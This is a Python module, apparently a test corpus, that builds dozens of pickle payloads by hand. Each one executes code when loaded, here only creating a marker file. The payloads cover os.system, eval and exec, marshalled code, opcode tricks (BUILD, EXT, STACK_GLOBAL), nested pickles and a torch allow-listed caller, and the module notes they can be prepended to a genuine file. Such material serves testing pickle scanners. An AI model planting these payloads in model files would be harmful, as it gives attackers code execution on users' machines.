"""Pickle programs, assembled opcode by opcode, that create an empty marker file when loaded.

Each leaves exactly one object on the stack, so it can be put before any other program and dropped
by a POP: the file then loads as the genuine one does, and has run code on the way.
"""

from __future__ import annotations

import io
import marshal
import pickle
import shlex
import struct
from collections.abc import Callable
from pathlib import Path

import torch

Program = Callable[[str], bytes]


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def pack(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + pack(*arguments) + b"R"


def whole(program: bytes, protocol: int = 4) -> bytes:
    """Return a complete pickle of the one object that `program` leaves."""
    return b"\x80" + bytes([protocol]) + program + b"."


def opens(marker: str) -> str:
    """Python source that creates the marker."""
    return f"open({marker!r}, 'w').close()"


def touch(marker: str) -> bytes:
    return text(f"touch {shlex.quote(marker)}")


OS_SYSTEM = name("os", "system")


def _popen(m: str) -> bytes:
    return call(name("subprocess", "Popen"), b"]" + b"(" + text("touch") + text(m) + b"e")


def _check_output(m: str) -> bytes:
    return call(name("subprocess", "check_output"), b"](" + text("touch") + text(m) + b"e")


def _marshalled(m: str) -> bytes:
    code = compile(opens(m), "x", "exec")
    loaded = call(name("marshal", "loads"), blob(marshal.dumps(code)))
    scope = call(name("builtins", "dict"), b"](" + pack(text("open"), name("io", "open")) + b"e")
    return call(call(name("types", "FunctionType"), loaded, scope))


def _methodcaller(m: str) -> bytes:
    module = call(name("builtins", "__import__"), text("os"))
    return call(call(name("operator", "methodcaller"), text("system"), touch(m)), module)


def _getattr_chain(m: str) -> bytes:
    module = call(name("importlib", "import_module"), text("os"))
    return call(call(name("builtins", "getattr"), module, text("system")), touch(m))


def _attrgetter(m: str) -> bytes:
    getter = call(name("operator", "attrgetter"), text("os.system"))
    return call(call(getter, name("torch", "serialization")), touch(m))


def _lazy_map(m: str) -> bytes:
    lazy = call(name("builtins", "map"), OS_SYSTEM, b"](" + touch(m) + b"e")
    return call(name("collections", "deque"), lazy)


def _partial_state(m: str) -> bytes:
    """BUILD calls `partial.__setstate__`, which swaps the harmless function for another."""
    partial = call(name("functools", "partial"), name("builtins", "len"))
    state = pack(OS_SYSTEM, pack(touch(m)), b"}", b"N")
    return call(partial + state + b"b")


def _module_state(m: str) -> bytes:
    """BUILD with slots sets an attribute of a module, here `os.getcwd`."""
    partial = call(name("functools", "partial"), OS_SYSTEM, touch(m))
    patch = b"N}" + text("getcwd") + partial + b"s\x86b0"
    return name("torch", "os") + patch + call(name("os", "getcwd"))


def _append_attribute(m: str) -> bytes:
    """APPEND on what is no list calls its attribute `append`."""
    space = call(name("types", "SimpleNamespace"))
    return space + b"}" + text("append") + OS_SYSTEM + b"sb" + touch(m) + b"a"


def _newobj(m: str, keywords: bool) -> bytes:
    """`numpy.memmap.__new__` creates the file that it maps."""
    cls = name("numpy", "memmap")
    mode, shape = text("w+"), b"K\x01"
    if keywords:
        options = b"}(" + text("mode") + mode + text("shape") + shape + b"u"
        return cls + pack(text(m)) + options + b"\x92"
    return cls + pack(text(m), text("u1"), mode, b"K\x00", shape) + b"\x81"


def _extension(code: int, opcode: bytes) -> Program:
    def program(m: str) -> bytes:
        register = call(name("copyreg", "add_extension"), text("os"), text("system"),
                        b"J" + struct.pack("<i", code))  # fmt: skip
        return register + b"0" + call(opcode, touch(m))

    return program


def _memo_names(m: str) -> bytes:
    """Names come out of the memo, so that no text beside the opcode tells them."""
    store = text("os") + b"\x94" + text("system") + b"\x94" + b"00"
    return store + call(b"h\x00h\x01\x93", touch(m))


def _nested_torch(m: str) -> bytes:
    buffer = io.BytesIO()
    torch.save({"x": Reduces(m)}, buffer)
    return call(name("torch.storage", "_load_from_bytes"), blob(buffer.getvalue()))


def _graph_module(m: str) -> bytes:
    source = f"{opens(m)}\ndef forward(self): pass\n"
    return call(name("torch.fx.graph_module", "_forward_from_src"), text(source), b"}")


def _from_type(m: str) -> bytes:
    """A function of torch's own allow-list calls its first argument."""
    return call(name("torch._tensor", "_rebuild_from_type_v2"), OS_SYSTEM,
                name("builtins", "int"), pack(touch(m)), b"}")  # fmt: skip


class Reduces:
    """The textbook payload, for whatever pickles by itself."""

    def __init__(self, marker: str | Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (opens(self.marker),)


SHELL, EVALUATE, FILE = "shell command", "evaluator of source text", "library call writing a file"
CHAIN = "attribute chain to a forbidden function"
# id -> (mechanism, program)
PROGRAMS: dict[str, tuple[str, Program]] = {
    "os-system": (SHELL, lambda m: call(OS_SYSTEM, touch(m))),
    "posix-system": (SHELL, lambda m: call(name("posix", "system"), touch(m))),
    "popen": (SHELL, _popen),
    "check-output": (SHELL, _check_output),
    "os-popen": (SHELL, lambda m: call(name("os", "popen"), touch(m))),
    "pipepager": (SHELL, lambda m: call(name("pydoc", "pipepager"), text(""), touch(m))),
    "eval": (EVALUATE, lambda m: call(name("builtins", "eval"), text(opens(m)))),
    # Below protocol 3, unpicklers translate the names of Python 2.
    "eval-python2": (EVALUATE, lambda m: b"\x80\x02" + call(name("__builtin__", "eval"),
                                                             text(opens(m)))),
    "exec": (EVALUATE, lambda m: call(name("builtins", "exec"), text(opens(m)))),
    "timeit": (EVALUATE, lambda m: call(name("timeit", "timeit"), text(opens(m)), text(""),
                                        name("time", "time"), b"K\x01")),
    "profile": (EVALUATE, lambda m: call(name("cProfile", "run"), text(opens(m)))),
    "runpy": (EVALUATE, lambda m: call(name("runpy", "_run_code"), text(opens(m)), b"}")),
    "runstring": (EVALUATE, lambda m: call(name("numpy.testing._private.utils", "runstring"),
                                           text(opens(m)), b"}")),
    "sympify": (EVALUATE, lambda m: call(name("sympy", "sympify"), text(
        f"__import__('pathlib').Path({m!r}).touch()"))),
    "graph-module": (EVALUATE, _graph_module),
    "io-open": (FILE, lambda m: call(name("io", "open"), text(m), text("w"))),
    "touch": (FILE, lambda m: call(name("pathlib", "Path.touch"),
                                   call(name("pathlib", "PosixPath"), text(m)))),
    "log-handler": (FILE, lambda m: call(name("logging", "FileHandler"), text(m))),
    "torch-save": (FILE, lambda m: call(name("torch.serialization", "save"), b"N", text(m))),
    "numpy-tofile": (FILE, lambda m: call(name("numpy", "savetxt"), text(m), b"]")),
    "mkdir": (FILE, lambda m: call(name("os", "mkdir"), text(m))),
    "getattr": (CHAIN, _getattr_chain),
    "methodcaller": (CHAIN, _methodcaller),
    "attrgetter": (CHAIN, _attrgetter),
    "module-in-module": (CHAIN, lambda m: call(name("torch", "os.system"), touch(m))),
    "marshal": ("marshalled code object", _marshalled),
    "lazy-map": ("call put off until an iterator is consumed", _lazy_map),
    "inst": ("opcode INST", lambda m: b"(" + touch(m) + b"ios\nsystem\n"),
    "obj": ("opcode OBJ", lambda m: b"(" + OS_SYSTEM + touch(m) + b"o"),
    "newobj": ("opcode NEWOBJ", lambda m: _newobj(m, keywords=False)),
    "newobj-ex": ("opcode NEWOBJ_EX", lambda m: _newobj(m, keywords=True)),
    "stack-global": ("opcode STACK_GLOBAL",
                     lambda m: call(text("os") + text("system") + b"\x93", touch(m))),
    "memo-global": ("opcode STACK_GLOBAL", _memo_names),
    "build-setstate": ("opcode BUILD calling __setstate__", _partial_state),
    "build-slots": ("opcode BUILD patching a module", _module_state),
    "append": ("opcode APPEND calling an attribute", _append_attribute),
    "ext1": ("opcodes EXT of copyreg", _extension(200, b"\x82\xc8")),
    "ext2": ("opcodes EXT of copyreg", _extension(0x1234, b"\x83\x34\x12")),
    "ext4": ("opcodes EXT of copyreg", _extension(0x123456, b"\x84\x56\x34\x12\x00")),
    "nested-pickle": ("pickle nested in bytes", lambda m: call(
        name("pickle", "loads"), blob(pickle.dumps(Reduces(m))))),
    "nested-torch": ("pickle nested in bytes", _nested_torch),
    "allow-listed-caller": ("allow-listed function that calls its argument", _from_type),
}  # fmt: skip
